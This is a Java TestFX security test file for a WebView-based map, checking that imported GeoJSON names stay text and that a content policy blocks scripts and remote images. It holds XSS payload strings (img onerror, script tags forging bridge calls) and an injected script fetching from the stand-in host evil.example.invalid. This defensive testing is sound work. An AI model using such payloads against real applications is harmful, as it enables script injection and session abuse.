package org.beatwise.ui.map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;
import javafx.concurrent.Worker;
import javafx.scene.Scene;
import javafx.stage.Stage;
import org.beatwise.testing.NetworkGuard;
import org.beatwise.testing.TestHomes;
import org.beatwise.ui.predict.PredictSources;
import org.beatwise.wiring.Services;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.testfx.api.FxRobot;
import org.testfx.framework.junit5.ApplicationExtension;
import org.testfx.framework.junit5.Start;
import org.testfx.util.WaitForAsyncUtils;

/**
 * Hostile names from an imported GeoJSON, and a page that tries to leave, on the real map page in a
 * real WebView (headless): names stay text, the page's policy refuses script and remote images, and
 * the bridge to Java exists only on our own page.
 */
@Tag("ui")
@ExtendWith(ApplicationExtension.class)
class MapSecurityTest {

    /** Each payload would set a window flag and forge a map click through the bridge if it ever ran. */
    private static final String IMG = "<img src=x onerror=\"window.pwned='img';window.bridge.onMapClick(1,2)\">";
    private static final String SCRIPT = "<script>window.pwned='script';window.bridge.onMapClick(3,4)</script>";
    private static final String QUOTES = "Dudley \"Sq\" & O'Brien's <b>corner</b>";
    private static final String LAYER = "<img src=y onerror=\"window.pwned='layer';window.bridge.onMapClick(5,6)\">";

    @TempDir
    static Path dir;
    private Services services;
    private Stage stage;
    private MapView map;
    private final AtomicReference<double[]> clicked = new AtomicReference<>();

    @Start
    void start(Stage stage) {
        this.stage = stage;
        services = TestHomes.fast(dir.resolve("h" + System.nanoTime()), Clock.systemUTC());
        show(new MapView((lat, lon) -> clicked.set(new double[] {lat, lon})));
    }

    private void show(MapView view) {
        map = view;
        stage.setScene(new Scene(view, 800, 600));
        stage.show();
    }

    @AfterEach
    void close() {
        services.close();
    }

    private Object eval(String script) throws Exception {
        WaitForAsyncUtils.waitFor(20, TimeUnit.SECONDS, () -> map.loadedProperty().get());
        return WaitForAsyncUtils.asyncFx(() -> map.evaluate(script)).get(10, TimeUnit.SECONDS);
    }

    private static String feature(String name, double lon, double lat) {
        double d = 0.005;
        return """
                {"type":"Feature","properties":{"NAME":%s},"geometry":{"type":"Polygon","coordinates":[
                 [[%s,%s],[%s,%s],[%s,%s],[%s,%s],[%s,%s]]]}}"""
                .formatted(json(name), lon, lat, lon + d, lat, lon + d, lat + d, lon, lat + d, lon, lat);
    }

    private static String json(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    @Test
    void hostileAreaAndLayerNamesAreShownAsTextAndRunNothing(FxRobot robot) throws Exception {
        Path file = dir.resolve("hostile-" + System.nanoTime() + ".geojson");
        Files.writeString(file, "{\"type\":\"FeatureCollection\",\"features\":[" + feature(IMG, -71.09, 42.30) + ","
                + feature(SCRIPT, -71.08, 42.30) + "," + feature(QUOTES, -71.07, 42.30) + "]}");
        services.areas().importAreas("test", file, "NAME", LAYER);
        // drawn as the Predict & Map pane draws them: the shipped districts, then every imported layer
        List<AreaLayer> layers = PredictSources.of(services.models(), services.hotspots(), services.datasets(),
                services.areas()).areaLayers().get();
        assertEquals(LAYER, layers.get(layers.size() - 1).name());
        robot.interact(() -> {
            layers.forEach(l -> map.addAreas(l.name(), l.geojson(), l.nameProperty()));
            map.fit(42.29, -71.10, 42.31, -71.06);
        });
        assertTrue(((Number) eval("beatwise.showAreaNames()")).intValue() >= 3);
        WaitForAsyncUtils.waitForFxEvents();

        String labels = (String) eval("Array.prototype.map.call(document.querySelectorAll('.bw-area'),"
                + " function (t) { return t.textContent; }).join('\\n')");
        assertTrue(labels.contains(IMG), labels);
        assertTrue(labels.contains(SCRIPT), labels);
        assertTrue(labels.contains(QUOTES), labels);
        String overlays = (String) eval("document.querySelector('.leaflet-control-layers-overlays').textContent");
        assertTrue(overlays.contains(LAYER), overlays);
        assertEquals(0, ((Number) eval("document.querySelectorAll('.bw-area img, .bw-area script, .bw-area b,"
                + " .leaflet-control-layers img, .leaflet-control-layers script').length")).intValue());

        WaitForAsyncUtils.waitForFxEvents();
        assertEquals("undefined", eval("typeof window.pwned"));
        assertNull(clicked.get(), "no map click was forged");
    }

    @Test
    void markupThatSlipsThroughStillCannotRunScriptOrLoadFromElsewhere(FxRobot robot) throws Exception {
        NetworkGuard guard = NetworkGuard.install();
        // As if some future code wrote a name into HTML: the policy is the second wall.
        eval("document.body.insertAdjacentHTML('beforeend', '<img id=\"slip\" src=\"nothing-here.png\""
                + " onerror=\"window.pwned=1;window.bridge.onMapClick(7,8)\">');"
                + "var s = document.createElement('script'); s.src = 'http://evil.example.invalid/x.js'; document.body.appendChild(s);"
                + "var i = new Image(); i.src = 'http://evil.example.invalid/y.png'; document.body.appendChild(i);");
        WaitForAsyncUtils.waitFor(20, TimeUnit.SECONDS, () -> {
            String v = (String) eval("beatwise.violations()");
            return v.contains("script-src-attr") && v.contains("evil.example.invalid/x.js") && v.contains("evil.example.invalid/y.png");
        });
        WaitForAsyncUtils.waitForFxEvents();
        assertEquals("undefined", eval("typeof window.pwned"));
        assertNull(clicked.get(), "no map click was forged");
        assertEquals(List.of(), guard.attempts(), "network attempts");
    }

    @Test
    void theBridgeIsNotOfferedToAPageThatIsNotOurs(FxRobot robot) throws Exception {
        assertEquals("object", eval("typeof window.bridge"), "our own page has the bridge");
        Path elsewhere = Files.writeString(dir.resolve("elsewhere.html"), "<!DOCTYPE html><html><body><p>elsewhere</p></body></html>");
        String url = elsewhere.toUri().toString();
        eval("window.location.href = '" + url + "'");
        WaitForAsyncUtils.waitFor(20, TimeUnit.SECONDS, () -> WaitForAsyncUtils.asyncFx(() ->
                map.engine().getLoadWorker().getState() == Worker.State.SUCCEEDED
                        && map.engine().getLocation().endsWith("elsewhere.html")).get());
        assertFalse(map.loadedProperty().get(), "calls wait for our own page");
        assertEquals("undefined", WaitForAsyncUtils.asyncFx(() -> map.engine().executeScript("typeof window.bridge"))
                .get(10, TimeUnit.SECONDS));
    }

    @Test
    void imagesComeOnlyFromTheConfiguredTileSource(FxRobot robot) throws Exception {
        NetworkGuard guard = NetworkGuard.install();
        robot.interact(() -> show(new MapView((lat, lon) -> { }, "http://tiles.allowed.invalid/{z}/{x}/{y}.png")));
        eval("var i = new Image(); i.src = 'http://tiles.other.invalid/1/2/3.png'; document.body.appendChild(i);");
        // the configured host is asked for tiles (and caught by the guard); the other host is refused
        WaitForAsyncUtils.waitFor(20, TimeUnit.SECONDS, () -> !guard.attempts().isEmpty()
                && ((String) eval("beatwise.violations()")).contains("tiles.other.invalid"));
        assertTrue(guard.attempts().stream().allMatch(u -> u.getHost().equals("tiles.allowed.invalid")), guard.attempts().toString());
    }

    @Test
    void withoutATileSourceARemoteTileLayerIsRefused(FxRobot robot) throws Exception {
        NetworkGuard guard = NetworkGuard.install();
        eval("beatwise.setTiles('http://tiles.example.invalid/{z}/{x}/{y}.png')");
        WaitForAsyncUtils.waitFor(20, TimeUnit.SECONDS, () -> ((String) eval("beatwise.violations()")).contains("tiles.example.invalid"));
        assertEquals(List.of(), guard.attempts(), "network attempts");
    }

    @Test
    void theTileSourceIsAnOriginOrTheFileScheme() {
        assertEquals("", MapView.tileFragment(""));
        assertEquals("https://tiles.local:8443", MapView.tileSource("https://tiles.local:8443/{z}/{x}/{y}.png"));
        assertEquals("file:", MapView.tileSource("file:/srv/tiles/{z}/{x}/{y}.png"));
        assertEquals("#tiles=http%3A%2F%2Ftiles.local", MapView.tileFragment("http://tiles.local/{z}/{x}/{y}.png"));
    }
}
